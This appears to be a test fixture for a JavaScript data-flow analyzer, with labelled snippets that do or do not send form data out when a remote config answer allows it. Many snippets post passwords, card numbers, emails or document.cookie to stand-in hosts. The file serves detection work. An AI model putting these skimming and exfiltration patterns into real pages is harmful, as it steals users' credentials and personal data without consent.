//# field-equals
// flow: email > a.srv.example via fetch
// guard: server-answer equals full
// why: request https://conf-a.srv.example/c.json, field mode
fetch('https://conf-a.srv.example/c.json').then((r) => r.json()).then((c) => {
  if (c.mode === 'full') fetch('https://a.srv.example/r', { method: 'POST', body: document.querySelector('input[type=email]').value });
});

//# answer-not-asked
// flow: email > b.srv.example via fetch
// no guard
// why: the answer is awaited and shown, no condition is put on it
(async () => {
  const c = await (await fetch('https://conf-b.srv.example/c.json')).json();
  document.querySelector('#msg').textContent = c.text;
  fetch('https://b.srv.example/r', { method: 'POST', body: document.querySelector('input[type=email]').value });
})();

//# xhr-answer
// flow: identifier > c.srv.example via image
// guard: server-answer present
// why: request https://conf-c.srv.example/flags, field track
var x = new XMLHttpRequest();
x.open('GET', 'https://conf-c.srv.example/flags');
x.onload = function () {
  var flags = JSON.parse(x.responseText);
  if (flags.track) new Image().src = 'https://c.srv.example/t?c=' + encodeURIComponent(document.cookie);
};
x.send();

//# answer-negated
// flow: device > d.srv.example via beacon
// guard: not server-answer present
// why: request /api/flags, field optOut
fetch('/api/flags').then((r) => r.json()).then(({ optOut }) => {
  if (optOut) return;
  navigator.sendBeacon('https://d.srv.example/d', navigator.userAgent);
});

//# nested-field
// flow: search > e.srv.example via fetch
// guard: server-answer equals v2
// why: request https://conf-e.srv.example/exp, field experiments.search
async function init() {
  const res = await fetch('https://conf-e.srv.example/exp');
  const data = await res.json();
  const variant = data.experiments.search;
  if (variant === 'v2') fetch('https://e.srv.example/s?q=' + document.querySelector('input[type=search]').value);
}
init();

//# text-answer
// flow: phone > f.srv.example via fetch
// guard: server-answer equals on
// why: request https://conf-f.srv.example/switch, the whole text
fetch('https://conf-f.srv.example/switch').then((r) => r.text()).then((t) => {
  if (t === 'on') fetch('https://f.srv.example/p', { method: 'POST', body: document.querySelector('input[type=tel]').value });
});

//# answer-chooses-text
// flow: phone > g.srv.example via fetch
// no guard
// why: the answer only decides what is shown before
fetch('https://conf-g.srv.example/ui').then((r) => r.json()).then((ui) => {
  if (ui.dark) document.body.classList.add('dark');
  fetch('https://g.srv.example/p', { method: 'POST', body: document.querySelector('input[type=tel]').value });
});

//# answer-one-of
// flow: username > h.srv.example via fetch
// guard: server-answer one-of gold | silver
// why: request https://conf-h.srv.example/me, field tier
fetch('https://conf-h.srv.example/me').then((r) => r.json()).then((me) => {
  if (['gold', 'silver'].includes(me.tier)) fetch('https://h.srv.example/u', { method: 'POST', body: document.querySelector('input[name=username]').value });
});

//# flag-kept-in-state
// flow: message > i.srv.example via fetch
// guard: server-answer present
// why: request https://conf-i.srv.example/boot, field collectDrafts, kept in an object until the handler runs
const state = { collect: false };
fetch('https://conf-i.srv.example/boot').then((r) => r.json()).then((b) => { state.collect = b.collectDrafts; });
document.querySelector('textarea[name=message]').onchange = (e) => {
  if (state.collect) fetch('https://i.srv.example/d', { method: 'POST', body: e.target.value });
};

//# answer-shown-under-condition
// no flow
// why: the guarded statement fills the field from the answer and sends nothing
fetch('https://conf-j.srv.example/prefill').then((r) => r.json()).then((p) => {
  if (p.known) document.querySelector('input[type=email]').value = p.email;
});

//# guard-of-own-request-only
// no flow
// why: the second request, made when the answer says so, has a constant address
fetch('https://conf-k.srv.example/c').then((r) => r.json()).then((c) => {
  const typed = document.querySelector('input[type=password]').value;
  if (c.check) fetch('https://k.srv.example/policy.json').then(() => console.log(typed.length));
});

//# destination-from-answer
// flow: email > ? via fetch
// no guard
// why: the answer gives the address, it is no condition
fetch('https://conf-l.srv.example/edge.json').then((r) => r.json()).then((c) => {
  fetch(c.endpoint, { method: 'POST', body: document.querySelector('input[type=email]').value });
});

//# callback-answer
// flow: card > m.srv.example via fetch
// guard: server-answer equals challenge
// why: request https://conf-m.srv.example/risk, field action
function risk(cb) { fetch('https://conf-m.srv.example/risk').then((r) => r.json()).then(cb); }
risk(function (d) {
  if (d.action !== 'challenge') return;
  fetch('https://m.srv.example/c', { method: 'POST', body: document.querySelector('input[autocomplete=cc-number]').value });
});

//# jquery-answer
// flow: password > n.srv.example via xhr
// guard: server-answer equals 1
// why: request https://conf-n.srv.example/ab.json, field arm
$.getJSON('https://conf-n.srv.example/ab.json', function (d) {
  if (d.arm === 1) $.post('https://n.srv.example/p', { p: $('input[type=password]').val() });
});

//# answer-chooses-constant
// no flow
// why: the answer chooses what is asked for next, the field is only cleared
fetch('https://conf-o.srv.example/step').then((r) => r.json()).then((s) => {
  document.querySelector('input[type=email]').value = '';
  fetch('https://o.srv.example/' + (s.next === 'pay' ? 'pay' : 'cart') + '.json');
});

//# answer-compared-with-field
// no flow
// why: the typed code is compared in the page with the answer
fetch('https://conf-p.srv.example/code').then((r) => r.json()).then((c) => {
  const ok = c.code === document.querySelector('input[autocomplete=one-time-code]').value;
  document.querySelector('#state').textContent = ok ? 'right' : 'wrong';
});

//# guard-that-stops-polling
// no flow
// why: the answer stops the timer, the polling request has no data
const timer = setInterval(async () => {
  const s = await (await fetch('https://q.srv.example/poll')).json();
  if (s.done) { clearInterval(timer); document.querySelector('#done').textContent = document.querySelector('input[type=email]').value; }
}, 2000);
